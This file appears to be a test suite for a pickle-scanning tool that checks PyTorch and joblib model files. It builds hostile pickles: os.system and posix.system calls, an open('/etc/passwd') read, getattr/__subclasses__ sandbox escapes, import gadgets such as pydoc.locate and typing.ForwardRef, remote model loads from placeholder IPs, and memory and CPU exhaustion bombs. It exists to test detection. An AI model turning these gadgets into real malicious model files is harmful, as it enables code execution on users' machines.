import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { FileSource } from '../../src/formats/source.js';
import { openEntry, readZip } from '../../src/formats/zip.js';
import { DEFAULT_LIMITS } from '../../src/limits.js';
import { createPolicy } from '../../src/formats/pickle/policy.js';
import { UnpicklerPool, vmScanPass, vmUnpickle, type VmNode } from '../../src/unpickler/index.js';
import { ESCAPES, SCAN_FIXTURES_DIR, TENSORS, callPickle } from './paths.js';

const policy = createPolicy();
const pool = new UnpicklerPool();

function dataPkl(file: string): Buffer {
  const src = new FileSource(file);
  try {
    const zip = readZip(src, DEFAULT_LIMITS);
    const e = zip.entries.find((x) => x.name.endsWith('/data.pkl'));
    if (!e) throw new Error('no data.pkl');
    const s = openEntry(src, e, 1 << 24);
    return Buffer.from(s.read(0, s.size));
  } finally {
    src.close();
  }
}

const vm = suite('restricted unpickler VM');

vm.after(async () => {
  await pool.close();
});

vm('unpickles a real torch.save data.pkl into tensors with storage references', async () => {
  const r = await vmUnpickle(dataPkl(join(TENSORS, 'checkpoint.pt')), { pool });
  assert.is(r.error, null);
  assert.is(r.count, 1);
  assert.equal(r.calls, []);
  const root = (r.objects as VmNode[])[0] as Extract<VmNode, { t: 'dict' }>;
  assert.is(root.t, 'dict');
  assert.ok(root.k.includes('model') && root.k.includes('optimizer'));
  const model = root.v[root.k.indexOf('model')] as Extract<VmNode, { t: 'dict' }>;
  const w = model.v[0] as Extract<VmNode, { t: 'tensor' }>;
  assert.is(w.t, 'tensor');
  assert.equal(w.shape, [3, 4]);
  assert.is((w.storage as Extract<VmNode, { t: 'storage' }>).dtype, 'float32');
  assert.ok(r.imports.some((i) => i.module === 'torch._utils' && i.name === '_rebuild_tensor_v2'));
});

vm('warm calls reuse the booted isolate', async () => {
  const pk = dataPkl(join(TENSORS, 'views.pt'));
  await vmUnpickle(pk, { pool });
  const r = await vmUnpickle(pk, { pool });
  assert.is(r.boot, undefined, 'no boot on a warm call');
});

const ESCAPE_CASES: Array<[string, RegExp, string]> = [
  ['import_js.pkl', /js\.eval\('1\+1'\)/, 'malicious'],
  ['pyodide_run_js.pkl', /pyodide\.code\.run_js\('globalThis\.x = 1'\)/, 'malicious'],
  ['os_system.pkl', /os\.system\('echo modelguard-fixture'\)/, 'malicious'],
  ['open_passwd.pkl', /builtins\.open\('\/etc\/passwd'\)/, 'malicious'],
  ['getattr_builtins.pkl', /builtins\.getattr\(<class 'object'>, '__subclasses__'\)/, 'malicious'],
];
for (const [file, call, verdict] of ESCAPE_CASES) {
  vm(`escape attempt ${file} is intercepted, never run, and reported with its arguments`, async () => {
    const r = await vmScanPass(readFileSync(join(ESCAPES, file)), { policy, pool });
    assert.ok(r.calls.length >= 1, 'the call was recorded');
    const f = r.findings.find((x) => x.rule === 'vm/intercepted-call' && call.test(x.message));
    assert.ok(f, `finding naming the call: ${JSON.stringify(r.findings)}`);
    assert.is(f?.verdict, verdict);
  });
}

vm('intercepted calls leave the host untouched (no file written, no command run)', async () => {
  const a = `/tmp/mg-escape-open-${process.pid}`;
  const b = `/tmp/mg-escape-touch-${process.pid}`;
  const two = Buffer.concat([callPickle('builtins', 'open', a, 'w').subarray(0, -1), Buffer.from('0', 'latin1'), callPickle('os', 'system', `touch ${b}`).subarray(2)]);
  const r = await vmScanPass(two, { policy, pool });
  assert.ok(r.findings.some((f) => f.message.includes(a)));
  assert.ok(r.findings.some((f) => f.message.includes(`touch ${b}`)));
  assert.not.ok(existsSync(a), 'open() never ran');
  assert.not.ok(existsSync(b), 'os.system() never ran');
});

vm('reaching for the runtime modules (js, pyodide) is its own finding', async () => {
  for (const file of ['import_js.pkl', 'pyodide_run_js.pkl']) {
    const r = await vmScanPass(readFileSync(join(ESCAPES, file)), { policy, pool });
    assert.ok(r.findings.some((f) => f.rule === 'vm/runtime-escape' && f.verdict === 'malicious'), file);
  }
});

vm('a __setstate__ loop is recorded, bounded and finishes', async () => {
  const r = await vmScanPass(readFileSync(join(ESCAPES, 'setstate_loop.pkl')), { policy, pool });
  assert.is(r.error, undefined);
  assert.ok(r.calls.length > 100 && r.calls.length <= 1000, `${r.calls.length} calls kept`);
  assert.ok(r.findings.some((f) => /Gadget.*__setstate__/.test(f.message)));
});

vm('a 4 GiB bytearray fails closed with its would-be cost, and is never allocated', async () => {
  for (const file of ['bytearray_4g.pkl', 'bytearray_2g.pkl']) {
    const r = await vmScanPass(readFileSync(join(ESCAPES, file)), { policy, pool });
    assert.ok(r.findings.some((f) => f.rule === 'vm/costly-call' && f.verdict === 'suspicious' && /allocates \d\.\d GiB/.test(f.message)), `${file}: ${JSON.stringify(r.findings)}`);
  }
  // The VM is still usable afterwards.
  const ok = await vmUnpickle(Buffer.from('\x80\x02K\x07.', 'latin1'), { pool });
  assert.equal(ok.objects, [7]);
});

vm('a memo bomb is returned as a compact graph (shared references, no expansion)', async () => {
  const r = await vmUnpickle(readFileSync(join(SCAN_FIXTURES_DIR, 'hostile/memo_bomb.pkl')), { pool, timeoutMs: 120_000 }); // a hang guard: a busy machine may stretch the VM's wall clock
  assert.ok(r.error === null || /limit/.test(r.error), String(r.error));
  const json = JSON.stringify(r.objects);
  assert.ok(json === undefined || json.length < 50_000_000);
});

for (const file of ['deep_lists.pkl', 'deep_marks.pkl']) {
  vm(`200 000-deep nesting (${file}) is read without overflowing the native stack; the VM is recycled`, async () => {
    const r = await vmScanPass(readFileSync(join(SCAN_FIXTURES_DIR, 'hostile', file)), { policy, pool });
    assert.equal(r.findings, [], JSON.stringify(r.findings));
    assert.is(r.error, undefined);
    const g = await vmUnpickle(readFileSync(join(SCAN_FIXTURES_DIR, 'hostile', file)), { pool });
    assert.match(String(g.error), /nested deeper than/);
    const again = await vmUnpickle(Buffer.from('\x80\x02K\x01.', 'latin1'), { pool });
    assert.equal(again.objects, [1]);
  });
}

vm('dotted and aliased names are intercepted and classified host-side', async () => {
  const r = await vmScanPass(callPickle('posix', 'system', 'id'), { policy, pool });
  assert.ok(r.findings.some((f) => f.verdict === 'malicious' && /system\('id'\)/.test(f.message)));
  const r2 = await vmScanPass(callPickle('torch', 'serialization.os.system', 'id'), { policy, pool });
  assert.ok(r2.findings.some((f) => f.verdict === 'malicious'));
});

vm('every pickle of a multi-pickle stream is run', async () => {
  const two = Buffer.concat([Buffer.from('\x80\x02K\x01.', 'latin1'), callPickle('os', 'system', 'echo second')]);
  const r = await vmScanPass(two, { policy, pool });
  assert.is(r.pickles, 2);
  assert.ok(r.findings.some((f) => /echo second/.test(f.message)));
});

vm('a broken stream after a dangerous call still reports the call', async () => {
  const pk = callPickle('os', 'system', 'echo then-break');
  const broken = Buffer.concat([pk.subarray(0, pk.length - 1), Buffer.from('\xff', 'latin1')]);
  const r = await vmScanPass(broken, { policy, pool });
  assert.ok(r.error);
  assert.ok(r.findings.some((f) => f.verdict === 'malicious' && /then-break/.test(f.message)));
});

vm('the allowlisted stand-ins build plain values', async () => {
  // collections.OrderedDict, builtins.set, torch.Size, codecs.encode
  const pk = Buffer.from(
    "\x80\x02ccollections\nOrderedDict\n)R(X\x01\x00\x00\x00a\x8c\x08builtins\x8c\x03set\x93]K\x01a\x85RX\x01\x00\x00\x00bctorch\nSize\n(K\x02K\x03t\x85Ru.",
    'latin1',
  );
  const r = await vmUnpickle(pk, { pool });
  assert.is(r.error, null);
  assert.equal(r.calls, []);
  assert.equal(r.objects, [{ t: 'dict', id: 0, ordered: true, k: ['a', 'b'], v: [{ t: 'set', id: 1, v: [1] }, { t: 'tuple', id: 2, v: [2, 3] }] }]);
});

vm('joblib streams are read like joblib: inline arrays skipped, object-array payloads intercepted', async () => {
  const benign = await vmScanPass(readFileSync(join(SCAN_FIXTURES_DIR, 'real/numpy_arrays.joblib')), { policy, pool, joblib: true });
  assert.is(benign.error, undefined);
  assert.equal(benign.findings, []);
  const evil = await vmScanPass(readFileSync(join(SCAN_FIXTURES_DIR, 'attack/joblib_object_payload.joblib')), { policy, pool, joblib: true });
  assert.ok(evil.findings.some((f) => f.verdict === 'malicious' && /system\('echo modelguard-fixture'\)/.test(f.message)), JSON.stringify(evil.findings));
  // Without joblib mode the C unpickler runs into the raw array bytes.
  const plain = await vmScanPass(readFileSync(join(SCAN_FIXTURES_DIR, 'real/numpy_arrays.joblib')), { policy, pool });
  assert.ok(plain.error);
});

// ----- issue 12: every call recorded, gadgets and payloads judged, costs bounded, bound methods --

/** A protocol-2 pickle from protocol-0 text opcodes (GLOBAL `c`, strings `S'…'`, `L…L` longs). */
const pk = (body: string): Buffer => Buffer.from(`\x80\x02${body}.`, 'latin1');
/** `module.name(args…)` as GLOBAL + MARK + args + TUPLE + REDUCE. */
const call = (module: string, name: string, args = ''): string => `c${module}\n${name}\n(${args}tR`;
const S = (s: string): string => `S'${s}'\n`;
const verdicts = (r: { findings: Array<{ verdict: string }> }) => r.findings.map((f) => f.verdict);
const worst = (r: { findings: Array<{ verdict: string }> }) =>
  (['malicious', 'invalid', 'suspicious', 'safe'] as const).find((v) => verdicts(r).includes(v)) ?? 'safe';

vm('calling what an intercepted call returned is recorded, and analysis goes on', async () => {
  // getattr(object, '__subclasses__')() and then os.system: before, the first call stopped the VM.
  const stream = pk(`${call('builtins', 'getattr', `cbuiltins\nobject\n${S('__subclasses__')}`)})R0${call('os', 'system', S('echo after'))}`);
  const r = await vmScanPass(stream, { policy, pool });
  assert.is(r.error, undefined, String(r.error));
  assert.ok(r.calls.some((c) => c.module === 'builtins' && c.name === 'getattr()' && c.kind === 'call'), JSON.stringify(r.calls));
  assert.ok(r.findings.some((f) => f.verdict === 'malicious' && /echo after/.test(f.message)), 'the call after it is still seen');
  assert.not.ok(r.findings.some((f) => f.rule === 'vm/error'));
});

vm('calling the object an allowlisted constructor returned is not vouched for by the allowlist', async () => {
  const r = await vmScanPass(pk(`${call('torch', 'device', S('cpu'))}${'(' + S('x') + 't'}R`), { policy, pool });
  assert.ok(r.findings.some((f) => f.verdict === 'suspicious' && /returned/.test(f.message)), JSON.stringify(r.findings));
  const twin = await vmScanPass(pk(call('torch', 'device', S('cpu'))), { policy, pool });
  assert.equal(twin.findings, [], 'not flagged: building it');
});

const GADGET_CALLS: Array<[string, string]> = [
  ['typing.get_type_hints', call('typing', 'get_type_hints', `${call('argparse', 'Namespace')}`)],
  ['typing.ForwardRef', call('typing', 'ForwardRef', S("__import__('os').system('echo x')"))],
  ['typing._eval_type', call('typing', '_eval_type', `${call('typing', 'ForwardRef', S('1'))}}N`)],
  ['dataclasses._create_fn', call('dataclasses', '_create_fn', `${S('f')}(t${S('return 1')}`)],
  ['torch._utils._import_dotted_name', call('torch._utils', '_import_dotted_name', S('os.system'))],
  ['torch.utils.model_zoo.load_url', call('torch.utils.model_zoo', 'load_url', S('http://198.51.100.7/m.pt'))],
  ['torch.hub.load', call('torch.hub', 'load', `${S('x/y')}${S('m')}`)],
  ['pkgutil.resolve_name', call('pkgutil', 'resolve_name', S('os:system'))],
  ['pydoc.locate', call('pydoc', 'locate', S('os.system'))],
  ['importlib.import_module', call('importlib', 'import_module', S('os'))],
  ['operator.attrgetter', call('operator', 'attrgetter', S('system'))],
  ['warnings._getcategory', call('warnings', '_getcategory', S('os.system'))],
];
for (const [name, body] of GADGET_CALLS) {
  vm(`the ${name} gadget is malicious, recorded with its arguments`, async () => {
    const r = await vmScanPass(pk(body), { policy, pool });
    assert.is(worst(r), 'malicious', JSON.stringify(r.findings));
    assert.ok(r.findings.some((f) => f.verdict === 'malicious' && f.message.includes(name)), JSON.stringify(r.findings));
  });
}

const PAYLOAD_CALLS: Array<[string, string]> = [
  ['a URL', call('vendor.net', 'Client', S('https://203.0.113.4/payload.bin'))],
  ['a dotted import path', call('vendor.util', 'Resolver', S('subprocess.check_output'))],
  ['Python source', call('vendor.util', 'Template', S("__import__('os').system('echo x')"))],
  ['a shell command', call('vendor.util', 'Job', S('echo x | sh'))],
];
for (const [kind, body] of PAYLOAD_CALLS) {
  vm(`a callable nobody named, given ${kind}, is malicious`, async () => {
    const r = await vmScanPass(pk(body), { policy, pool });
    assert.ok(r.findings.some((f) => f.rule === 'vm/payload-argument' && f.verdict === 'malicious' && f.message.includes(kind)), JSON.stringify(r.findings));
  });
}
vm('not flagged beyond suspicious: the same callables given plain data', async () => {
  for (const body of [call('vendor.net', 'Client', S('config.json')), call('vendor.util', 'Resolver', S('hello')), call('vendor.util', 'Job', 'K\x03')]) {
    const r = await vmScanPass(pk(body), { policy, pool });
    assert.is(worst(r), 'suspicious', JSON.stringify(r.findings));
  }
});

/** LONG4: a positive integer of `n` bytes. */
const long4 = (n: number): string => {
  const len = Buffer.alloc(4);
  len.writeUInt32LE(n);
  return `\x8b${len.toString('latin1')}${'\x11'.repeat(n - 1)}\x01`;
};
const COSTLY: Array<[string, string, RegExp]> = [
  ['fractions.Fraction(n, d) of 1-Mbit integers', call('fractions', 'Fraction', `${long4(1 << 17)}${long4(1 << 17)}`), /reduces \d+-bit integers by gcd/],
  ["int('1' * 5000)", call('builtins', 'int', S('1'.repeat(5000))), /parses an integer of 5,000 digits/],
  ['str(a 32768-bit integer)', call('builtins', 'str', long4(4096)), /converts an integer of ~9,86\d digits to text/],
  ['torch.Size(range(10**11))', call('torch', 'Size', call('builtins', 'range', 'L100000000000L\n')), /builds 100,000,000,000 items/],
  ["fractions.Fraction('1e999999999')", call('fractions', 'Fraction', S('1e999999999')), /10\*\*999999999.*1,000,000,000 digits/],
  ["fractions.Fraction('1e-999999999')", call('fractions', 'Fraction', S('1e-999999999')), /10\*\*999999999/],
  ['fractions.Fraction(decimal.Decimal(…))', call('fractions', 'Fraction', call('decimal', 'Decimal', S('1e999999999'))), /Fraction\(Decimal\) computes 10\*\*999999999/],
  ['int(decimal.Decimal(…))', call('builtins', 'int', call('decimal', 'Decimal', S('9e99999999'))), /int\(Decimal\) computes/],
  ['list(range(10**11))', call('builtins', 'list', call('builtins', 'range', 'L100000000000L\n')), /builds 100,000,000,000 items/],
  ['set(range(…)) via __builtin__', call('__builtin__', 'set', call('__builtin__', 'xrange', 'L5000000L\n')), /builds 5,000,000 items/],
  ['bytearray(2**40)', call('builtins', 'bytearray', 'L1099511627776L\n'), /allocates 1\.0 TiB/],
  ['bytes(2**33)', call('builtins', 'bytes', 'L8589934592L\n'), /allocates 8\.0 GiB/],
  ['collections.deque(range(10**12))', call('collections', 'deque', call('builtins', 'range', 'L1000000000000L\n')), /iterates a range of 1,000,000,000,000 items/],
];
for (const [name, body, cost] of COSTLY) {
  vm(`${name} is suspicious with its would-be cost, and the VM does not pay it`, async () => {
    const r = await vmScanPass(pk(`${body}0${call('os', 'system', S('echo still-read'))}`), { policy, pool });
    const f = r.findings.find((x) => x.rule === 'vm/costly-call');
    assert.ok(f, JSON.stringify(r.findings));
    assert.is(f?.verdict, 'suspicious');
    assert.match(f?.message ?? '', cost);
    assert.ok(r.findings.some((x) => x.verdict === 'malicious' && /still-read/.test(x.message)), 'the rest of the stream is still read');
    assert.is(r.error, undefined, String(r.error));
  });
}
vm('when the object graph is wanted (safeLoad), a cost over a limit stops the run: no stand-in data', async () => {
  const r = await vmUnpickle(pk(call('builtins', 'bytearray', 'L1099511627776L\n')), { pool });
  assert.match(String(r.error), /^limit: builtins\.bytearray\(1099511627776\) allocates 1\.0 TiB/);
  assert.is(r.costs?.length, 1);
});

vm('not flagged: the same constructors at ordinary sizes', async () => {
  for (const body of [
    call('fractions', 'Fraction', S('1.5e3')),
    call('fractions', 'Fraction', S('3/4')),
    call('fractions', 'Fraction', call('decimal', 'Decimal', S('2.5'))),
    call('builtins', 'list', call('builtins', 'range', 'K\x10')),
    call('builtins', 'bytearray', 'K\x10'),
    call('collections', 'Counter', call('builtins', 'range', 'K\x10')),
    call('fractions', 'Fraction', 'K\x06K\x04'),
    call('builtins', 'int', S('12345')),
    call('builtins', 'int', `${S('f'.repeat(5000))}K\x10`),
    call('builtins', 'str', long4(64)),
  ]) {
    const r = await vmScanPass(pk(body), { policy, pool });
    assert.equal(r.findings, [], JSON.stringify(r.findings));
  }
  const g = await vmUnpickle(pk(call('builtins', 'bytearray', 'K\x10')), { pool });
  assert.is((g.objects?.[0] as { t: string }).t, 'bytes');
});

vm('Python 2 names map through _compat_pickle as CPython maps them', async () => {
  const r = await vmUnpickle(pk(`${call('__builtin__', 'xrange', 'K\x05')}`), { pool });
  assert.is(r.error, null);
  assert.equal(r.calls, [], 'builtins.range is built, not intercepted');
  assert.equal(r.objects, [{ t: 'obj', id: 0, cls: 'builtins.range', args: [0, 5, 1] }]);
  const ev = await vmScanPass(pk(call('__builtin__', 'eval', S('1+1'))), { policy, pool });
  assert.ok(ev.findings.some((f) => f.verdict === 'malicious' && /builtins\.eval/.test(f.message)), JSON.stringify(ev.findings));
  const twin = await vmScanPass(pk(call('__builtin__', 'unicode', S('x'))), { policy, pool });
  assert.equal(twin.findings, []);
});

/** getattr(<NEWOBJ of cls>, method), as pickle writes a bound method. */
const boundMethod = (cls: string, method: string, newobj = true) => {
  const [m, n] = [cls.slice(0, cls.lastIndexOf('.')), cls.slice(cls.lastIndexOf('.') + 1)];
  const owner = newobj ? `c${m}\n${n}\n)\x81}b` : `c${m}\n${n}\n`;
  return pk(`cbuiltins\ngetattr\n(${owner}${S(method)}tR`);
};
vm('a bound method of an allowlisted LR scheduler is recognised, not called getattr', async () => {
  const r = await vmScanPass(boundMethod('torch.optim.lr_scheduler.OneCycleLR', '_annealing_cos'), { policy, pool });
  assert.equal(r.findings, [], JSON.stringify(r.findings));
});
vm('flagged twin: getattr on the class, another method, or another class is still malicious', async () => {
  for (const stream of [
    boundMethod('torch.optim.lr_scheduler.OneCycleLR', '_annealing_cos', false),
    boundMethod('torch.optim.lr_scheduler.OneCycleLR', 'load_state_dict'),
    boundMethod('torch.optim.lr_scheduler.OneCycleLR', '__reduce__'),
    boundMethod('torch.optim.sgd.SGD', '_annealing_cos'),
    boundMethod('vendor.Sched', '_annealing_cos'),
  ]) {
    const r = await vmScanPass(stream, { policy, pool });
    assert.ok(r.findings.some((f) => f.verdict === 'malicious' && /builtins\.getattr/.test(f.message)), JSON.stringify(r.findings));
  }
  // Calling the recognised bound method is a recorded call, never silently allowed.
  const called = await vmScanPass(pk(`cbuiltins\ngetattr\n(ctorch.optim.lr_scheduler\nOneCycleLR\n)\x81${S('_annealing_cos')}tR(K\x01K\x02G?\xe0\x00\x00\x00\x00\x00\x00tR`), { policy, pool });
  assert.ok(called.findings.some((f) => f.verdict === 'suspicious' && /OneCycleLR\._annealing_cos/.test(f.message)), JSON.stringify(called.findings));
});

vm('many instances of one class are reported once, with the count', async () => {
  const inst = 'cvendor.nn\nBlock\n)\x81}b0';
  const r = await vmScanPass(pk(`${inst.repeat(50)}N`), { policy, pool });
  const fs = r.findings.filter((f) => /vendor\.nn\.Block/.test(f.message));
  assert.is(fs.length, 1, JSON.stringify(fs));
  assert.match(fs[0]?.message ?? '', /100 intercepted calls: __new__ ×50, __setstate__ ×50/);
});

vm.run();
